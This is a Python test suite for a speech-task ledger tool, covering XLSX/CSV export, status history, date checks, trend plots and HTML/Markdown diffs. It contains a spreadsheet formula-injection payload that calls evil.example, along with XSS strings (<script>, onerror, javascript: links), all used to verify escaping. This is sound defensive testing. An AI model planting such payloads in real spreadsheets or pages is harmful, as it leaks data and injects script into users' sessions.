"""What a secretariat uses: the XLSX/CSV 台账, which ledger, matching, status, dates, trend, diff, tables.

Issue 11 (everything but inputs and re-ingest) and issue 10 points 4, 7 and 11 (-o).
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
import yaml
from sqlalchemy import select
from test_ledger import _add_speech

from speechledger.cli import build_parser, main
from speechledger.ledger.db import open_ledger
from speechledger.ledger.models import StatusEvent, Task

ROOT = Path(__file__).resolve().parents[1]
AS_OF = "2024-08-01"


@pytest.fixture(autouse=True)
def no_user_config(tmp_path, monkeypatch):
    """Every test runs in an empty folder with no $SPEECHLEDGER_DB and no user speechledger.toml."""
    monkeypatch.delenv("SPEECHLEDGER_DB", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("COLUMNS", raising=False)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)


@pytest.fixture
def led(tmp_path):
    ledger = open_ledger(f"sqlite:///{tmp_path / 'ledger.sqlite'}")
    yield ledger
    ledger.close()


@pytest.fixture
def taizhang(led):
    """A ledger with an overdue, a due-soon, a done, an undated task and one with a formula-like text."""
    _add_speech(led, "g.txt", [
        {"text": "市工信局要牵头，7月底前编制完成产业链规划。", "units": [("市工信局", "lead")],
         "deadlines": [("7月底前", "2024-07-31")], "targets": [("15%以上", "规模工业增加值", 15, "%", ">=")]},
        {"text": "区工业和信息化局要在8月5日前完成企业走访。", "units": [("区工业和信息化局", "lead")],
         "deadlines": [("8月5日前", "2024-08-05")]},
        {"text": "县工信局牵头、财政局配合，年底前建成重点项目库。",
         "units": [("县工信局", "lead"), ("财政局", "support")],
         "deadlines": [("年底前", "2024-12-31")]},
        {"text": "=HYPERLINK(\"http://evil.example/\"&A1,\"点此查看\")要落实。"},
        {"text": "商务局要加快推進產業鏈延鏈補鏈。", "units": [("商务局", "lead")]},
    ], title="在全市工业经济运行调度会议上的讲话", date="2024-03-01")
    with led.session() as s:
        ids = list(s.scalars(select(Task.id).order_by(Task.id)))
    assert main(["status", str(ids[2]), "已完成", "--by", "督查室", "--note", "+已建成", "--db", led.url]) == 0
    return led, ids


def _rows(out: str) -> list[dict]:
    return json.loads(out)


# ---------------------------------------------------------------- XLSX 台账

def test_xlsx_is_a_taizhang_a_secretariat_can_print(taizhang, tmp_path):
    from openpyxl import load_workbook
    led, ids = taizhang
    out = tmp_path / "台账.xlsx"
    assert main(["tasks", "--db", led.url, "--as-of", AS_OF, "-o", str(out), "--title", "重点任务台账"]) == 0
    ws = load_workbook(out).active
    assert ws["A1"].value == f"重点任务台账（截至 {AS_OF}）" and "A1:M1" in {str(r) for r in ws.merged_cells.ranges}
    header = [c.value for c in ws[2]]
    assert header[:11] == ["序号", "任务内容", "牵头单位", "配合单位", "完成时限", "剩余或逾期天数", "预警",
                           "目标值", "来源讲话", "状态", "进展"]
    col = {h: i for i, h in enumerate(header)}
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == 5
    due = rows[0][col["完成时限"]]
    assert isinstance(due.value, dt.datetime) and due.value.date() == dt.date(2024, 7, 31) and due.is_date
    assert rows[0][col["剩余或逾期天数"]].value == -1 and "逾期" in rows[0][col["剩余或逾期天数"]].number_format
    fills = {r[col["预警"]].value: r[col["预警"]].fill.fgColor.rgb for r in rows if r[col["预警"]].value}
    assert set(fills) == {"逾期", "临期", "已完成"}
    assert fills["逾期"].endswith("F8696B") and fills["临期"].endswith("FFD966") and fills["已完成"].endswith("63BE7B")
    assert rows[2][col["状态"]].value == "已完成"
    cell = rows[0][col["任务内容"]]
    assert cell.border.left.style == "thin" and cell.alignment.wrap_text and cell.font.name == "宋体"
    assert ws.auto_filter.ref.startswith("A2:") and ws.freeze_panes == "C3"
    assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == "9"
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage


def test_formula_like_cells_stay_text_in_xlsx_and_csv(taizhang, tmp_path):
    """Issue 10.4: =, +, -, @ at the start never make a live formula."""
    from openpyxl import load_workbook
    led, _ = taizhang
    x, c = tmp_path / "t.xlsx", tmp_path / "t.csv"
    assert main(["tasks", "--db", led.url, "--as-of", AS_OF, "-o", str(x)]) == 0
    assert main(["tasks", "--db", led.url, "--as-of", AS_OF, "-o", str(c)]) == 0
    ws = load_workbook(x).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    evil = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert evil and all(cell.data_type == "s" for cell in evil)
    assert any(cell.value == "+已建成" and cell.data_type == "s" for cell in cells)
    with open(x, "rb") as f:
        import zipfile
        sheet = zipfile.ZipFile(f).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    raw = c.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert any(r["任务内容"].startswith("'=HYPERLINK") for r in rows)
    assert any(r["进展"] == "'+已建成" for r in rows)
    for r in rows:
        for v in r.values():
            assert re.fullmatch(r"-?\d+", v) or not v.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "普通"])
def test_neutralise(value):
    from speechledger.ledger.export import neutralise
    assert neutralise(value) == (value if value == "普通" else "'" + value)


def test_library_exports_return_bytes(taizhang):
    from speechledger.ledger.export import csv_bytes, jsonl_bytes, xlsx_bytes
    from speechledger.ledger.queries import TaskQuery, find_tasks
    led, _ = taizhang
    with led.session() as s:
        rows = find_tasks(s, TaskQuery())
    assert xlsx_bytes(rows, as_of=dt.date(2024, 8, 1))[:2] == b"PK"
    assert csv_bytes(rows).startswith(b"\xef\xbb\xbf\xe5\xba\x8f\xe5\x8f\xb7")   # BOM + 序号
    assert len(jsonl_bytes(rows).splitlines()) == len(rows)


# ---------------------------------------------------------------- -o and --format

@pytest.mark.parametrize("name, check", [
    ("a.xlsx", lambda p: p.read_bytes()[:2] == b"PK"),
    ("a.csv", lambda p: p.read_bytes().startswith(b"\xef\xbb\xbf")),
    ("a.json", lambda p: isinstance(json.loads(p.read_text(encoding="utf-8")), list)),
    ("a.jsonl", lambda p: all(json.loads(line)["id"] for line in p.read_text(encoding="utf-8").splitlines())),
])
def test_output_format_follows_the_file_name(taizhang, tmp_path, name, check):
    out = tmp_path / name
    assert main(["tasks", "--db", taizhang[0].url, "--as-of", AS_OF, "-o", str(out)]) == 0
    assert check(out)


def test_contradicting_format_is_an_error_and_xlsx_never_gets_text(taizhang, tmp_path, capsys):
    out = tmp_path / "a.xlsx"
    assert main(["tasks", "--db", taizhang[0].url, "--format", "table", "-o", str(out)]) == 2
    assert main(["tasks", "--db", taizhang[0].url, "--format", "csv", "-o", str(out)]) == 2
    assert "contradicts" in capsys.readouterr().err and not out.exists()


def test_tasks_jsonl_on_stdout(taizhang, capsys):
    assert main(["tasks", "--db", taizhang[0].url, "--format", "jsonl"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 5 and all(json.loads(line)["speech_ref"].endswith("g.txt#1") for line in lines)


@pytest.mark.parametrize("argv", [["tasks"], ["speeches"], ["trend", "--unit", "工信局"]])
def test_output_to_a_folder_or_missing_folder_is_one_line(taizhang, tmp_path, capsys, argv):
    """Issue 10.11: no traceback."""
    for dest in (tmp_path, tmp_path / "missing" / "x.csv"):
        assert main(argv + ["--db", taizhang[0].url, "-o", str(dest)]) == 2
        err = capsys.readouterr().err.strip().splitlines()
        assert err[-1].startswith("speechledger: error:") and "Traceback" not in "".join(err)


def test_failed_run_keeps_the_existing_output_file(tmp_path, capsys):
    """Issue 10.11: -o is written to a temp file and renamed on success only."""
    out = tmp_path / "keep.csv"
    out.write_text("old content", encoding="utf-8")
    assert main(["tasks", "--db", str(tmp_path / "nope.sqlite"), "-o", str(out)]) == 2
    assert out.read_text(encoding="utf-8") == "old content"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".keep")] == []


def test_atomic_output_leaves_target_on_error(tmp_path):
    from speechledger.outfile import atomic_output
    target = tmp_path / "t.txt"
    target.write_text("before")
    with pytest.raises(RuntimeError):
        with atomic_output(target) as h:
            h.file.write("half")
            raise RuntimeError("boom")
    with atomic_output(target) as h:
        h.file.write("new")
        h.abandon()
    assert target.read_text() == "before" and [p.name for p in tmp_path.iterdir() if p.is_file()] == ["t.txt"]
    with atomic_output(target) as h:
        h.file.write("after")
    assert target.read_text() == "after"


# ---------------------------------------------------------------- which ledger

def test_query_of_a_missing_ledger_is_an_error_and_creates_nothing(tmp_path, capsys):
    assert main(["tasks"]) == 2
    err = capsys.readouterr().err
    assert "no ledger at" in err and "ingest" in err
    assert not (Path.cwd() / "outputs").exists()


def test_every_command_says_which_ledger(taizhang, capsys, monkeypatch):
    led, ids = taizhang
    monkeypatch.setenv("SPEECHLEDGER_DB", led.url)
    for argv in (["tasks"], ["speeches"], ["history", str(ids[0])], ["trend", "--unit", "工信局"],
                 ["status", str(ids[0]), "推进中", "--by", "x"]):
        assert main(argv) == 0, argv
        assert f"ledger {led.url} (from $SPEECHLEDGER_DB)" in capsys.readouterr().err


def test_speechledger_toml_in_the_working_folder_and_user_config(taizhang, tmp_path, capsys):
    led, ids = taizhang
    db_file = led.url.removeprefix("sqlite:///")
    Path("speechledger.toml").write_text(f'db = "{db_file}"\nby = "督查室"\n', encoding="utf-8")
    assert main(["tasks", "--format", "json"]) == 0
    cap = capsys.readouterr()
    assert len(json.loads(cap.out)) == 5 and "speechledger.toml" in cap.err
    assert main(["status", str(ids[0]), "推进中"]) == 0          # --by from the config
    with led.session() as s:
        assert s.scalars(select(StatusEvent.author).order_by(StatusEvent.id.desc())).first() == "督查室"
    Path("speechledger.toml").unlink()
    user = tmp_path / "xdg" / "speechledger"
    user.mkdir(parents=True)
    (user / "speechledger.toml").write_text(f'db = "{db_file}"\n', encoding="utf-8")
    assert main(["tasks", "--format", "json"]) == 0
    assert str(user / "speechledger.toml") in capsys.readouterr().err


def test_bad_config_is_a_clear_error(capsys):
    Path("speechledger.toml").write_text('dbb = "x"\n', encoding="utf-8")
    assert main(["tasks"]) == 2
    assert "unknown key 'dbb'" in capsys.readouterr().err


# ---------------------------------------------------------------- matching

def test_unit_matches_across_prefixes_and_abbreviations(taizhang, capsys):
    led, _ = taizhang
    assert main(["tasks", "--db", led.url, "--unit", "工信局", "--format", "json"]) == 0
    texts = [r["text"] for r in _rows(capsys.readouterr().out)]
    assert len(texts) == 3 and any("区工业和信息化局" in t for t in texts) and any("县工信局" in t for t in texts)
    assert main(["tasks", "--db", led.url, "--unit", "%", "--format", "json"]) == 0
    assert _rows(capsys.readouterr().out) == []


def test_search_matches_either_script(taizhang, capsys):
    led, _ = taizhang
    assert main(["tasks", "--db", led.url, "--search", "产业链", "--format", "json"]) == 0
    texts = [r["text"] for r in _rows(capsys.readouterr().out)]
    assert any("產業鏈" in t for t in texts) and any("产业链" in t for t in texts)


def _examples(name: str) -> list[dict]:
    return yaml.safe_load((ROOT / "pipeline" / "data" / name).read_text(encoding="utf-8"))["examples"]


@pytest.mark.parametrize("ex", _examples("unit_match.yaml"), ids=lambda ex: f"{ex['term']}~{ex['name']}")
def test_unit_match_examples(ex):
    from speechledger.ledger.aliases import unit_term_matches
    assert unit_term_matches(ex["term"], ex["name"]) is ex["match"]


# ---------------------------------------------------------------- status and history

def test_status_takes_chinese_names_several_ids_and_requires_by(taizhang, capsys):
    led, ids = taizhang
    assert main(["status", str(ids[0]), str(ids[1]), "推进中", "--db", led.url]) == 2
    assert "--by is required" in capsys.readouterr().err
    assert main(["status", str(ids[0]), str(ids[1]), "推进中", "--by", "市工信局", "--db", led.url]) == 0
    assert main(["status", str(ids[0]), "已销号", "--by", "督查室", "--db", led.url]) == 0
    with led.session() as s:
        assert [s.get(Task, i).status for i in ids[:2]] == ["done", "in_progress"]
    assert main(["status", str(ids[1]), "9999", "已完成", "--by", "x", "--db", led.url]) == 2
    assert "no status was changed" in capsys.readouterr().err
    with led.session() as s:
        assert s.get(Task, ids[1]).status == "in_progress"       # all or none
    assert main(["status", str(ids[1]), "快好了", "--by", "x", "--db", led.url]) == 2


def test_status_at_a_past_date_needs_a_reason_and_history_is_in_time_order(taizhang, capsys):
    led, ids = taizhang
    tid = str(ids[0])
    assert main(["status", tid, "推进中", "--by", "督查室", "--db", led.url]) == 0
    assert main(["status", tid, "已完成", "--by", "督查室", "--at", "2024-06-30", "--db", led.url]) == 2
    assert "--reason" in capsys.readouterr().err
    assert main(["status", tid, "未开始", "--by", "督查室", "--at", "2099-01-01", "--reason", "x",
                 "--db", led.url]) == 2
    assert main(["status", tid, "已完成", "--by", "督查室", "--at", "2024-06-30", "--reason", "会议确认，补录",
                 "--db", led.url]) == 0
    capsys.readouterr()
    assert main(["history", tid, "--db", led.url]) == 0
    lines = [ln for ln in capsys.readouterr().out.splitlines() if re.match(r"\s+\d{4}-", ln)]
    stamps = [ln.split()[0] for ln in lines]
    assert stamps == sorted(stamps) and stamps[0].startswith("2024-06-30")
    assert "补录" in lines[0] and "会议确认" in lines[0]


# ---------------------------------------------------------------- dates

@pytest.mark.parametrize("argv", [
    ["diff", "a.txt", "b.txt", "--date", "2023-02-30"], ["tasks", "--as-of", "2023-02-30"],
    ["tasks", "--due-before", "2023-13-01"], ["status", "1", "done", "--at", "2023-02-30"]])
def test_impossible_dates_are_rejected(argv, capsys):
    with pytest.raises(SystemExit) as e:
        build_parser().parse_args(argv)
    assert e.value.code == 2 and "invalid date '2023-" in capsys.readouterr().err


def test_date_validator_messages():
    """The validator extract and ingest use for --date (iso_date_str) and everything else (iso_date)."""
    import argparse

    from speechledger.commands._ledgerargs import iso_date_str, parse_date
    with pytest.raises(argparse.ArgumentTypeError, match="day is out of range"):
        iso_date_str("2023-02-30")
    assert parse_date("2024-02-29") == dt.date(2024, 2, 29)
    for bad, why in (("2023-02-30", "day is out of range"), ("2024/07/04", "YYYY-MM-DD"), ("20240704", "YYYY-MM-DD")):
        with pytest.raises(ValueError, match=why):
            parse_date(bad)


# ---------------------------------------------------------------- consistency

def test_help_texts_mention_no_issue_numbers():
    ap = build_parser()
    sub = next(a for a in ap._actions if a.choices and isinstance(a.choices, dict))
    for name, p in sub.choices.items():
        assert not re.search(r"[Ii]ssue|(?<![\w.])#\d+", p.format_help()), name


def test_counts_read_1_task_and_n_tasks():
    from speechledger.output import plural
    assert plural(1, "task") == "1 task" and plural(0, "task") == "0 tasks" and plural(2, "speech") == "2 speeches"


def test_speech_numbers_are_file_hash_n_from_one(taizhang, capsys, monkeypatch):
    led, _ = taizhang
    monkeypatch.setenv("COLUMNS", "200")
    assert main(["speeches", "--db", led.url, "--format", "json"]) == 0
    sp = json.loads(capsys.readouterr().out)[0]
    assert sp["speech_ref"].endswith("g.txt#1") and sp["speech"] == 0
    assert main(["speeches", "--db", led.url]) == 0
    assert "g.txt#1" in capsys.readouterr().out


# ---------------------------------------------------------------- terminal tables

def test_table_honours_columns_and_marks_overdue_red(taizhang, capsys, monkeypatch):
    led, _ = taizhang
    monkeypatch.setenv("COLUMNS", "100")
    assert main(["tasks", "--db", led.url, "--as-of", AS_OF]) == 0
    out = capsys.readouterr().out
    widths = {len(line) for line in out.splitlines() if line.strip()}
    assert max(widths) <= 100 and "市工信局要牵头" in out
    from speechledger.ledger.export import print_tasks
    from speechledger.ledger.queries import TaskQuery, find_tasks
    with led.session() as s:
        rows = find_tasks(s, TaskQuery())
    monkeypatch.setenv("FORCE_COLOR", "1")
    buf = io.StringIO()
    print_tasks(rows, buf, as_of=dt.date(2024, 8, 1))
    red = [ln for ln in buf.getvalue().splitlines() if "\x1b[31m" in ln]
    assert red and any("逾期" in ln for ln in red)


# ---------------------------------------------------------------- trend

@pytest.mark.parametrize("ex", _examples("metric_names.yaml"), ids=lambda ex: ex["metric"].strip())
def test_metric_names_are_normalised_before_grouping(ex):
    from speechledger.ledger.trend import metric_key
    assert metric_key(ex["metric"]) == ex["key"]


def test_trend_plot_groups_metrics_leaves_out_undated_and_warns_without_cjk_font(led, tmp_path, capsys,
                                                                                  monkeypatch):
    _add_speech(led, "a.txt", [{"text": "规模以上工业增加值增长8%。",
                                "targets": [("8%", "规模以上工业增加值", 8, "%", ">=")]}],
                date="2023-02-01")
    _add_speech(led, "b.txt", [{"text": "2.规模工业增加值增长9%。",
                                "targets": [("9%", "2.规模工业增加值", 9, "%", ">=")]}],
                date="2024-02-01")
    _add_speech(led, "c.txt", [{"text": "规上工业增加值增长7%。", "targets": [("7%", "规上工业增加值", 7, "%", ">=")]}],
                date=None)
    png = tmp_path / "t.png"
    assert main(["trend", "--metric", "规模以上工业增加值", "--db", led.url, "--format", "json",
                 "--plot", str(png)]) == 0
    cap = capsys.readouterr()
    rows = json.loads(cap.out)
    assert {r["metric"] for r in rows} == {"规模工业增加值"} and len(rows) == 3
    assert "1 undated speech left out of the chart" in cap.err
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    import speechledger.ledger.trend as trend
    monkeypatch.setattr(trend, "find_cjk_font", lambda: None)
    assert main(["trend", "--metric", "规模工业增加值", "--db", led.url, "--plot", str(png)]) == 0
    assert "fonts-noto-cjk" in capsys.readouterr().err


def test_plot_uses_a_cjk_font_when_installed():
    from matplotlib import font_manager

    from speechledger.ledger.trend import find_cjk_font
    if not any("CJK" in Path(p).name or "wqy" in p for p in font_manager.findSystemFonts()):
        pytest.skip("no CJK font on this system (.ci/run installs fonts-noto-cjk)")
    assert find_cjk_font()


# ---------------------------------------------------------------- diff

def _diff_result():
    from speechledger.diff.compare import diff_speeches
    old = {"source": "a.txt", "speech": 0, "title": "旧", "date": "2024-03-01", "tasks": [
        {"start": 0, "end": 20, "text": "市工信局要3月底前完成<script>alert(1)</script>规划编制。",
         "units": [], "targets": [], "modality": "must",
         "deadlines": [{"start": 0, "end": 1, "text": "3月底前", "due": "2025-03-31", "placeholder": False}]},
        {"start": 30, "end": 40, "text": "各地要持续优化营商环境。", "units": [], "targets": [], "deadlines": [],
         "modality": "should"}]}
    new = {"source": "b.txt", "speech": 1, "title": "新", "date": "2025-03-01", "tasks": [
        {"start": 0, "end": 20, "text": "市工信局要4月底前完成<script>alert(1)</script>规划编制。",
         "units": [], "targets": [], "modality": "must",
         "deadlines": [{"start": 0, "end": 1, "text": "4月底前", "due": "2026-04-30", "placeholder": False}]},
        {"start": 30, "end": 40, "text": "各地要持续优化营商环境。", "units": [], "targets": [], "deadlines": [],
         "modality": "should"},
        {"start": 50, "end": 60, "text": "<img src=x onerror=alert(1)>[点此](javascript:alert(1))要落实。",
         "units": [], "targets": [], "deadlines": [], "modality": "should"}]}
    return diff_speeches(old, new)


def test_diff_deadline_change_reads_old_and_new_dates():
    from speechledger.diff.render import render
    out = io.StringIO()
    render(_diff_result(), "markdown", out)
    assert "3月底前 (2025-03-31) → 4月底前 (2026-04-30)" in out.getvalue()


def test_markdown_diff_escapes_raw_html():
    """Issue 10.7."""
    from speechledger.diff.render import render
    out = io.StringIO()
    render(_diff_result(), "markdown", out)
    md = out.getvalue()
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md) and "\\[点此\\]" in md


def test_html_diff_has_chinese_labels_and_a_changes_only_filter():
    from speechledger.diff.render import render
    out = io.StringIO()
    render(_diff_result(), "html", out)
    page = out.getvalue()
    assert "<script" not in page and "只看有变化的任务" in page and "时限变化" in page and "原讲话" in page
    assert '<input type="checkbox" id="only">' in page
    assert "#only:checked ~ table tr.unchanged" in page and 'class="unchanged"' in page
    assert "table-layout:fixed" in page and "overflow-wrap:anywhere" in page


def test_diff_output_file_is_atomic_and_format_from_name(tmp_path, capsys):
    from speechledger.commands._ledgerargs import iso_date_str
    assert iso_date_str("2024-02-29") == "2024-02-29"
    out = tmp_path / "d.html"
    out.write_text("keep")
    assert main(["diff", "missing-a.txt", "missing-b.txt", "-o", str(out)]) == 2
    assert out.read_text() == "keep"
    assert main(["diff", "a.txt", "b.txt", "--format", "json", "-o", str(out)]) == 2
    assert "contradicts" in capsys.readouterr().err


# ---------------------------------------------------------------- Datasette

def test_datasette_canned_queries_run_on_a_ledger(taizhang):
    led, _ = taizhang
    meta = yaml.safe_load((ROOT / "datasette" / "metadata.yml").read_text(encoding="utf-8"))
    db = meta["databases"]["ledger"]
    assert {"overdue", "due_soon", "by_unit"} <= set(db["queries"])
    assert db["tables"]["task_list"]["columns"]["task"] == "任务内容"
    con = sqlite3.connect(led.url.removeprefix("sqlite:///"))
    params = {"as_of": AS_OF, "days": "7", "unit": "工信"}
    got = {name: con.execute(q["sql"], {k: v for k, v in params.items() if f":{k}" in q["sql"]}).fetchall()
           for name, q in db["queries"].items()}
    con.close()
    assert len(got["overdue"]) == 1 and got["overdue"][0][4] == "2024-07-31"
    assert len(got["due_soon"]) == 1 and len(got["by_unit"]) >= 1
